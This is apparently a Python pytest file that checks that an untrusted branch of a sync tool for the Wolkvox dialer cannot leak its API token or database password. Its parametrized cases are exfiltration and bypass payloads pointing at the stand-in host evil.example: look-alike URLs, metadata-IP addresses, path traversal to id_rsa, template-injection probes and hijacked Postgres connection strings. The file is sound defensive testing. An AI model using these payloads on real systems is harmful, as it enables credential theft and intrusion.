"""No branch can make a secret leave for a host that the owner did not allow (T1, T2, T3)."""

import json
import shutil
from pathlib import Path

import pytest

from tests.pull_requests.conftest import MAIN, PROJECT, THE_DIALER, TOKEN, AskedError, Link, Repository

ROOT = Path(__file__).parents[2]
WOLKVOX = (ROOT / "vendors" / "wolkvox.yaml").read_text(encoding="utf-8")
MAPPING = (ROOT / "mappings" / "wolkvox.yaml").read_text(encoding="utf-8")
EVIL = "evil.example"
AT_EVIL = PROJECT.replace("vendor: wolkvox", f"vendor: wolkvox\n    base_url: https://{EVIL}")


def stopped(repository: Repository, files: dict[str, str | bytes | Link], why: str) -> None:
    """The trusted job of a branch reads nobody but the dialer, prints no secret, and says why it stopped."""
    place = repository.branch(files)
    for words in (["plan"], ["apply", "--yes"]):
        done = repository.job(place, *words)
        assert done.asked == [], done.asked
        assert done.code == 1, done.said
        assert why in done.said, done.said
        assert TOKEN not in done.said


def test_the_trusted_job_of_main_asks_its_dialer_and_nobody_else(repository: Repository) -> None:
    done = repository.job(repository.branch({}), "plan")
    assert set(done.asked) == {THE_DIALER}


def test_a_base_url_in_the_branch_gets_no_token(repository: Repository) -> None:
    stopped(repository, {"syncengine.yaml": AT_EVIL}, "which is not allowed yet")


def test_a_base_url_that_the_owner_has_allowed_is_asked(repository: Repository) -> None:
    (repository.owner / "syncengine" / "origins").write_text(f"https://{EVIL}\n")
    done = repository.job(repository.branch({"syncengine.yaml": AT_EVIL}), "plan")
    assert set(done.asked) == {EVIL}


def test_a_list_of_origins_in_the_branch_allows_nothing(repository: Repository) -> None:
    there = f"https://{EVIL}\n"
    files = {"origins": there, ".config/syncengine/origins": there, "syncengine/origins": there}
    stopped(repository, {"syncengine.yaml": AT_EVIL, **files}, "A file of the project cannot allow it")


def test_a_vendor_file_in_the_branch_under_a_shipped_name_gets_no_token(repository: Repository) -> None:
    moved = WOLKVOX.replace("https://wv{{ settings.server }}.wolkvox.com", f"https://{EVIL}")
    stopped(repository, {"vendors/wolkvox.yaml": moved}, "the files of the project decide it")


def test_a_mapping_in_the_branch_makes_the_vendor_the_projects_own(repository: Repository) -> None:
    stopped(repository, {"mappings/wolkvox.yaml": MAPPING + "\n"}, "the files of the project decide it")


@pytest.mark.parametrize(
    "server",
    [
        "0016.wolkvox.com:443@evil.example/?x=",
        "0016.evil.example/",
        "0016@evil.example",
        "0016#",
        "0016\\\\evil.example",
        "٠٠١٦",
    ],
)
def test_a_setting_in_the_branch_moves_no_host(repository: Repository, server: str) -> None:
    stopped(repository, {"syncengine.yaml": PROJECT.replace('"0016"', f'"{server}"')}, "0016")


@pytest.mark.parametrize(
    "url",
    [
        "https://wv0016.wolkvox.com@evil.example",
        "https://evil.example\\\\@wv0016.wolkvox.com",
        "http://wv0016.wolkvox.com",
        "https://wv0016.wolkvox.com.",
        "https://2130706433",
        "https://[::ffff:169.254.169.254]",
        "https://169.254.169.254",
        "https://wv0016.wolkvox.com:8443",
        "https://wv0016.wоlkvox.com",
        "ftp://wv0016.wolkvox.com",
    ],
)
def test_a_look_alike_of_an_allowed_origin_is_another_one(repository: Repository, url: str) -> None:
    (repository.owner / "syncengine" / "origins").write_text(f"https://{THE_DIALER}\nhttp://{THE_DIALER}\n")
    place = repository.branch({"syncengine.yaml": AT_EVIL.replace(f"https://{EVIL}", f'"{url}"')})
    done = repository.job(place, "plan")
    assert (done.asked, done.code) == ([], 1), done.said


def test_a_secret_of_the_machine_is_no_secret_of_the_project(repository: Repository) -> None:
    (repository.owner / "id_rsa").write_text("canary-private-key")
    for where in (str(repository.owner / "id_rsa"), "../../owner/id_rsa", "linked"):
        place = repository.branch(
            {
                "syncengine.yaml": PROJECT.replace("env:WOLKVOX_TOKEN", f"file:{where}"),
                "linked": Link(str(repository.owner / "id_rsa")),
            }
        )
        done = repository.job(place, "plan")
        assert (done.asked, done.code) == ([], 1), done.said
        assert "canary" not in done.said


@pytest.mark.parametrize("what", ["secrets.token", "token", "env.WOLKVOX_TOKEN", "settings.__class__", "self._secrets"])
def test_a_template_in_the_branch_reads_no_secret(repository: Repository, what: str) -> None:
    (repository.owner / "syncengine" / "origins").write_text("https://ours.example\n")
    moved = WOLKVOX.replace("https://wv{{ settings.server }}.wolkvox.com", "https://ours.example")
    assert "{{ campaign.id }}" in moved
    place = repository.branch({"vendors/wolkvox.yaml": moved.replace("{{ campaign.id }}", "{{ " + what + " }}", 1)})
    done = repository.job(place, "plan")
    assert done.code == 1
    assert done.asked == []
    assert TOKEN not in done.said


def test_a_plan_of_an_untrusted_branch_has_no_credential_and_opens_nothing(
    repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    export, out = tmp_path / "facts.json", tmp_path / "plan.bin"
    main = repository.branch({})
    assert repository.job(main, "ledger", "export", "--for-ci", export).code == 0
    place = repository.branch(
        {"syncengine.yaml": AT_EVIL, "data/people.csv": MAIN["data/people.csv"] + "4,3101230004,Lu\n"}
    )
    trusted = repository.job(main, "plan", "--refresh", "none", "--json")
    # Nothing of the owner is there: neither his folder nor his ledger nor a secret.
    shutil.rmtree(repository.owner / "syncengine")
    (repository.owner / "ledger.db").unlink()
    monkeypatch.delenv("WOLKVOX_TOKEN")
    monkeypatch.delenv("SYNCENGINE_LEDGER")
    words = ["plan", "--offline", "--ledger-export", export, "--out", out, "--json"]
    done = repository.job(place, *words)
    assert (done.asked, done.code) == ([], 0), done.said
    assert not (place / ".syncengine").exists()
    again = repository.job(main, *words)
    assert json.loads(again.said.partition("saved to")[0])["plan_id"] == json.loads(trusted.said)["plan_id"]


def test_a_webhook_in_the_branch_carries_no_facts_out(repository: Repository) -> None:
    way = f"notifications: [{{webhook: 'https://{EVIL}/x', secret: 'env:WOLKVOX_TOKEN'}}]\n"
    place = repository.branch({"syncengine.yaml": PROJECT + way})
    done = repository.job(place, "plan", "--refresh", "none", "--notify", "approval")
    assert (done.asked, done.code) == ([], 0), done.said
    assert "not allowed yet" in done.said


@pytest.fixture
def reached(repository: Repository, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The database servers that were called; the library would send PGPASSWORD to any that asks for it."""
    import psycopg

    found: list[str] = []

    def connect(url: str, **_: object) -> None:
        found.append(url)
        raise AskedError

    monkeypatch.setattr(psycopg, "connect", connect)
    monkeypatch.setenv("PGPASSWORD", TOKEN)
    # Nothing else names the ledger, as on a runner that was set up in haste.
    monkeypatch.delenv("SYNCENGINE_LEDGER")
    return found


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://{EVIL}/acme",
        f"postgresql://ours.example:5433@{EVIL}/acme",
        f"postgresql://ours.example,{EVIL}/acme",
        f"postgresql:///acme?host={EVIL}",
        f"postgresql:///acme?host=/run,{EVIL}",
        f"postgresql:///acme?host=/run&host={EVIL}",
        f"postgresql://ours.example/acme?hostaddr=192.0.2.1&host={EVIL}",
        f"postgresql://ours.example/acme?%68ost={EVIL}",
        "postgresql:///acme?service=evil",
        "postgresql://ours.example/acme?sslmode=disable",
        "postgresql://ours.example:5433/acme",
        "postgresql://localhost.evil.example/acme",
        "postgresql://2130706433/acme",
    ],
)
def test_a_ledger_at_a_server_named_by_the_branch_gets_no_password(
    repository: Repository, reached: list[str], url: str
) -> None:
    (repository.owner / "syncengine" / "origins").write_text("postgresql://ours.example\n")
    place = repository.branch({"syncengine.yaml": PROJECT + f'ledger: "{url}"\n'})
    for words in (["plan", "--refresh", "none"], ["apply", "--yes"], ["state", "list"], ["ledger", "migrate"]):
        done = repository.job(place, *words)
        assert reached == []
        assert done.code == 1, done.said
        assert "ledger" in done.said, done.said
        assert TOKEN not in done.said


def test_a_ledger_that_the_owner_has_allowed_or_named_is_called(
    repository: Repository, reached: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (repository.owner / "syncengine" / "origins").write_text("postgresql://ours.example  # the ledger\n")
    place = repository.branch({"syncengine.yaml": PROJECT + "ledger: postgresql://ann@ours.example/acme\n"})
    assert repository.job(place, "plan", "--refresh", "none").code == -1
    monkeypatch.setenv("SYNCENGINE_LEDGER", "postgresql://theirs.example/acme?connect_timeout=3")
    assert repository.job(place, "plan", "--refresh", "none").code == -1
    assert reached == ["postgresql://ann@ours.example/acme", "postgresql://theirs.example/acme?connect_timeout=3"]
